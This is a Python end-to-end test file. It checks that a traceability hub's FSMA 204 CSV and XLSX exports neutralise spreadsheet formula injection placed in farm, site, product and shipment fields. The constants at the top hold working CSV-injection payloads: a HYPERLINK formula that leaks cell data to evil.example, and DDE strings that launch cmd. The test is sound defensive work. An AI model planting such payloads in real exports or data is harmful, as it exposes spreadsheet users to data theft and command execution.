"""A hostile member's text in every field that reaches the FSMA 204 export comes out inert, in CSV and XLSX."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import httpx
import openpyxl
import pytest

from auth.principal import Role
from graph_schema import lots, parties
from graph_schema.db import Graph
from graph_schema.identifiers import lgtin_for
from graph_schema.records import FirmRecord, LotQuantity, LotRecord, ProductRecord, ShipmentRecord, SiteRecord
from graph_schema.spreadsheet_safety import is_formula_like
from hub.app import create_app, open_issuer
from hub.server import serve_in_thread
from hub.settings import Settings
from tests.e2e.hub_settings import hub_settings
from tests.factories import gln, gtin

pytestmark = pytest.mark.neo4j

T0 = datetime(2026, 9, 1, 0, 0, tzinfo=UTC)
# one payload per field, each led by another sign that spreadsheet programs read as the start of a formula
SITE = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
FIRM = "=cmd|' /C calc'!A0"
REGION = "@SUM(1+1)"
PRODUCT = "+1+cmd|' /C notepad'!A0"
PRODUCT_KO = "-2+3+cmd|' /C calc'!A0"
UOM = "@kg"
DOC_TYPE = "-1+1"  # (records strip leading tabs and CRs: the unit tests cover those)
DOC_NUMBER = "=2+2"
PLANT_SITE = '＝HYPERLINK("https://evil.example")'  # full-width equals sign
LOT_NUMBER = "=1-2"


@pytest.fixture(scope="module")
def settings(neo4j_server: tuple[str, str, str], tmp_path_factory: pytest.TempPathFactory) -> Settings:
    return hub_settings(neo4j_server, tmp_path_factory.mktemp("state"))


@pytest.fixture(scope="module")
def base_url(settings: Settings) -> Iterator[str]:
    with serve_in_thread(create_app(settings), port=settings.port) as url:
        yield url


@pytest.fixture
async def hostile_lot(graph: Graph) -> str:
    """A farm whose every name is a formula, its lot (number included) shipped to a plant and received."""
    farm_site, plant_site, product = gln(), gln(), gtin()
    await parties.upsert_firms(
        graph,
        [
            FirmRecord(id="evil-farm", name=FIRM, roles=["FARM"]),
            FirmRecord(id="evil-plant", name="-Plant", roles=["PLANT"]),
        ],
    )
    await parties.upsert_sites(
        graph,
        [
            SiteRecord(gln=farm_site, firm_id="evil-farm", name=SITE, kind="FARM", region=REGION),
            SiteRecord(gln=plant_site, firm_id="evil-plant", name=PLANT_SITE, kind="PLANT", region=None),
        ],
    )
    await parties.upsert_products(
        graph,
        [
            ProductRecord(
                gtin=product, owner_firm_id="evil-farm", name=PRODUCT, name_ko=PRODUCT_KO, category="raw", uom=UOM
            )
        ],
    )
    lot = lgtin_for(product, LOT_NUMBER)
    await lots.record_lots(
        graph,
        [LotRecord(id=lot, owner_firm_id="evil-farm", site_gln=farm_site, quantity=10, uom=UOM, produced_at=T0)],
    )
    await lots.record_shipments(
        graph,
        [
            ShipmentRecord(
                id="SH-EVIL",
                from_gln=farm_site,
                to_gln=plant_site,
                shipped_at=T0 + timedelta(hours=1),
                received_at=T0 + timedelta(hours=2),
                doc_type=DOC_TYPE,
                doc_number=DOC_NUMBER,
                items=[LotQuantity(lot_id=lot, quantity=10, uom=UOM)],
            )
        ],
        shipper_firm_id="evil-farm",
    )
    return lot


def export(base_url: str, settings: Settings, lot: str, **params: str) -> httpx.Response:
    token = open_issuer(settings).mint(subject="e2e:farm", firm_id="evil-farm", roles=[Role.VIEWER])
    response = httpx.get(
        f"{base_url}/exports/fsma204",
        params={"lot": lot, "direction": "downstream", **params},
        headers={"Authorization": f"Bearer {token}"},
        timeout=30,
    )
    assert response.status_code == 200, response.text
    return response


def csv_cells(response: httpx.Response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def assert_inert(cells: list[str]) -> None:
    formulas = [cell for cell in cells if is_formula_like(cell)]
    assert formulas == [], f"cells a spreadsheet would run: {formulas}"


async def test_csv_cells_of_hostile_names_start_with_a_quote(
    hostile_lot: str, base_url: str, settings: Settings
) -> None:
    header, *rows = csv_cells(export(base_url, settings, hostile_lot, format="csv"))
    assert [row[0] for row in rows] == ["Harvesting", "Shipping", "Receiving"]
    harvest, shipping, receiving = (dict(zip(header, row, strict=True)) for row in rows)
    assert harvest["Product description"] == "'" + PRODUCT
    assert harvest["Unit of measure"] == "'" + UOM
    assert harvest["Quantity"] == "10"  # numbers stay numbers
    assert harvest["Location description"] == f"'{SITE}, {FIRM}, {REGION}"
    assert harvest["Traceability lot code source"] == f"'{SITE}, {FIRM}, {REGION}"
    assert shipping["Immediate previous source or subsequent recipient"] == f"'{PLANT_SITE}, -Plant"
    assert shipping["Reference document type"] == "'" + DOC_TYPE
    assert shipping["Reference document number"] == "'" + DOC_NUMBER
    assert receiving["Location description"] == f"'{PLANT_SITE}, -Plant"
    assert harvest["Traceability lot code"].endswith(f"(10){LOT_NUMBER}")  # the lot number, inside a safe cell
    assert_inert([cell for row in rows for cell in row])


async def test_korean_export_neutralises_the_korean_product_name(
    hostile_lot: str, base_url: str, settings: Settings
) -> None:
    header, *rows = csv_cells(export(base_url, settings, hostile_lot, format="csv", lang="ko"))
    assert {row[header.index("제품 설명")] for row in rows} == {"'" + PRODUCT_KO}
    assert_inert([cell for row in rows for cell in row])


async def test_xlsx_has_no_formula_cell_and_keeps_numbers(hostile_lot: str, base_url: str, settings: Settings) -> None:
    book = openpyxl.load_workbook(io.BytesIO(export(base_url, settings, hostile_lot, format="xlsx").content))
    sheet = book["FSMA 204"]
    header = [cell.value for cell in sheet[1]]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert_inert(texts)
    first = {name: cell.value for name, cell in zip(header, sheet[2], strict=True)}
    assert first["Product description"] == "'" + PRODUCT
    assert first["Location description"] == f"'{SITE}, {FIRM}, {REGION}"
    assert first["Quantity"] == 10
    shipping = {name: cell.value for name, cell in zip(header, sheet[3], strict=True)}
    assert shipping["Reference document type"] == "'" + DOC_TYPE
    assert shipping["Reference document number"] == "'" + DOC_NUMBER
